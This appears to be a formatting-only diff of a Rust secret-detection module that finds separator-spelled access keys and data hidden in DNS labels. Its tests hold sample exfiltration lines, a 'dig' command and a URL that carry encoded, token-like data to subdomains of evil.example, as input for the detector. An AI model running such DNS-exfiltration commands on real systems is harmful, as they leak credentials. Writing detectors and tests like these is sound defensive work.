@@ -40,7 +40,9 @@ pub(super) fn separated(text: &str) -> Vec<(Range<usize>, String)> {
         if byte.is_ascii_alphanumeric() || byte.is_ascii_whitespace() {
             continue;
         }
-        let Some(interval) = intervals.get_mut(usize::from(*byte)) else { continue };
+        let Some(interval) = intervals.get_mut(usize::from(*byte)) else {
+            continue;
+        };
         let step = at - interval.last;
         if interval.count > 0 && step == interval.step {
             interval.last = at;
@@ -52,16 +54,27 @@ pub(super) fn separated(text: &str) -> Vec<(Range<usize>, String)> {
         *interval = match interval.count {
             1.. if (2..=GROUP + 1).contains(&step) => {
                 repeated |= 1 << *byte;
-                Interval { first: interval.last, last: at, step, count: 2 }
+                Interval {
+                    first: interval.last,
+                    last: at,
+                    step,
+                    count: 2,
+                }
             }
-            _ => Interval { first: at, last: at, step: 0, count: 1 },
+            _ => Interval {
+                first: at,
+                last: at,
+                step: 0,
+                count: 1,
+            },
         };
         if found.len() >= PLACES {
             return found;
         }
     }
     if repeated != 0 {
-        let rest = (0_u8..128).filter_map(|byte| spelling(text, byte, *intervals.get(usize::from(byte))?));
+        let rest =
+            (0_u8..128).filter_map(|byte| spelling(text, byte, *intervals.get(usize::from(byte))?));
         found.extend(rest.take(PLACES - found.len()));
     }
     found
@@ -70,22 +83,46 @@ pub(super) fn separated(text: &str) -> Vec<(Range<usize>, String)> {
 /// The passage that `sign` separates at this interval, if it is long enough.
 fn spelling(text: &str, sign: u8, interval: Interval) -> Option<(Range<usize>, String)> {
     let group = interval.step.checked_sub(1).filter(|group| *group > 0)?;
-    let enough = if group == 1 { interval.count + 1 >= SINGLE } else { interval.count + 1 >= GROUPS };
+    let enough = if group == 1 {
+        interval.count + 1 >= SINGLE
+    } else {
+        interval.count + 1 >= GROUPS
+    };
     if !enough {
         return None;
     }
     let bytes = text.as_bytes();
-    let belongs =
-        |at: &usize| bytes.get(*at).is_some_and(|byte| *byte != sign && byte.is_ascii_graphic() && !matches!(byte, b'"' | b'\''));
-    let start = interval.first - (1..=group).map_while(|back| interval.first.checked_sub(back)).take_while(belongs).count();
-    let end = interval.last + 1 + (interval.last + 1..=interval.last + group).take_while(belongs).count();
+    let belongs = |at: &usize| {
+        bytes.get(*at).is_some_and(|byte| {
+            *byte != sign && byte.is_ascii_graphic() && !matches!(byte, b'"' | b'\'')
+        })
+    };
+    let start = interval.first
+        - (1..=group)
+            .map_while(|back| interval.first.checked_sub(back))
+            .take_while(belongs)
+            .count();
+    let end = interval.last
+        + 1
+        + (interval.last + 1..=interval.last + group)
+            .take_while(belongs)
+            .count();
     // A group longer than the others, as in a UUID: they only look alike.
-    let goes_on = |at: Option<usize>| group > 1 && at.and_then(|at| bytes.get(at)).is_some_and(u8::is_ascii_alphanumeric);
+    let goes_on = |at: Option<usize>| {
+        group > 1
+            && at
+                .and_then(|at| bytes.get(at))
+                .is_some_and(u8::is_ascii_alphanumeric)
+    };
     if goes_on(start.checked_sub(1)) || goes_on(Some(end)) {
         return None;
     }
     let end = end.min(start + MOST_BYTES);
-    let joined: String = text.get(start..end)?.chars().filter(|c| *c != char::from(sign)).collect();
+    let joined: String = text
+        .get(start..end)?
+        .chars()
+        .filter(|c| *c != char::from(sign))
+        .collect();
     let plain = joined.bytes().filter(u8::is_ascii_alphanumeric).count();
     let letters = joined.bytes().any(|byte| byte.is_ascii_alphabetic());
     (plain >= LEAST && letters && joined.is_ascii()).then_some((start..end, joined))
@@ -97,14 +134,23 @@ pub(super) fn labels(text: &str) -> Vec<(Range<usize>, String)> {
     let (mut found, mut from) = (Vec::new(), 0);
     for dot in memchr::memchr_iter(b'.', bytes) {
         let before = bytes.get(from..dot).unwrap_or_default();
-        let start = dot - before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric()).count();
+        let start = dot
+            - before
+                .iter()
+                .rev()
+                .take_while(|byte| byte.is_ascii_alphanumeric())
+                .count();
         if dot - start < LABEL {
             continue;
         }
         let (mut joined, mut end) = (text.get(start..dot).unwrap_or_default().to_owned(), dot);
         while bytes.get(end) == Some(&b'.') && joined.len() < MOST_BYTES {
             let rest = bytes.get(end + 1..).unwrap_or_default();
-            let length = rest.iter().take(MOST_BYTES).take_while(|byte| byte.is_ascii_alphanumeric()).count();
+            let length = rest
+                .iter()
+                .take(MOST_BYTES)
+                .take_while(|byte| byte.is_ascii_alphanumeric())
+                .count();
             if length < LABEL {
                 break;
             }
@@ -128,18 +174,35 @@ mod tests {
 
     #[test]
     fn long_labels_are_joined() {
-        let joined = |text: &str| labels(text).into_iter().map(|(_, joined)| joined).collect::<Vec<_>>();
-        assert_eq!(joined("dig 676c7061742d46.453654633866.x.evil.example"), ["676c7061742d46453654633866"]);
+        let joined = |text: &str| {
+            labels(text)
+                .into_iter()
+                .map(|(_, joined)| joined)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            joined("dig 676c7061742d46.453654633866.x.evil.example"),
+            ["676c7061742d46453654633866"]
+        );
         assert_eq!(
             joined("https://m5uhax3nivcdeutsobfg.m4yek42bjjswi2svmrqt.x.evil.example/"),
             ["m5uhax3nivcdeutsobfgm4yek42bjjswi2svmrqt"]
         );
-        for text in
-            ["www.documentation.example.com", "org.apache.commons.collections", "1.2.3", "a.b", "", "x".repeat(99).as_str()]
-        {
+        for text in [
+            "www.documentation.example.com",
+            "org.apache.commons.collections",
+            "1.2.3",
+            "a.b",
+            "",
+            "x".repeat(99).as_str(),
+        ] {
             assert!(joined(text).is_empty(), "{text}");
         }
-        assert!(labels(&"a1b2c3d4e5f6.".repeat(50_000)).iter().all(|(_, joined)| joined.len() <= 2 * MOST_BYTES));
+        assert!(
+            labels(&"a1b2c3d4e5f6.".repeat(50_000))
+                .iter()
+                .all(|(_, joined)| joined.len() <= 2 * MOST_BYTES)
+        );
     }
 
     #[test]
@@ -151,7 +214,10 @@ mod tests {
             ("AKIA-2E0A-8F3B-244C", "AKIA2E0A8F3B244C"),
             ("x-y A_K_I_A_2_E_0_A_8_F_3_B", "AKIA2E0A8F3B"),
         ] {
-            let found: Vec<String> = separated(text).into_iter().map(|(_, joined)| joined).collect();
+            let found: Vec<String> = separated(text)
+                .into_iter()
+                .map(|(_, joined)| joined)
+                .collect();
             assert_eq!(found, [wanted], "{text}");
         }
         for text in [
@@ -164,7 +230,11 @@ mod tests {
         ] {
             assert!(separated(text).is_empty(), "{text}");
         }
-        assert!(separated(&"a-".repeat(100_000)).iter().all(|(_, joined)| joined.len() <= MOST_BYTES));
+        assert!(
+            separated(&"a-".repeat(100_000))
+                .iter()
+                .all(|(_, joined)| joined.len() <= MOST_BYTES)
+        );
         assert!(separated(&"a-b-c-d-e-f-g-h-i-j-k-l-m ä ".repeat(1_000)).len() <= PLACES);
     }
 }
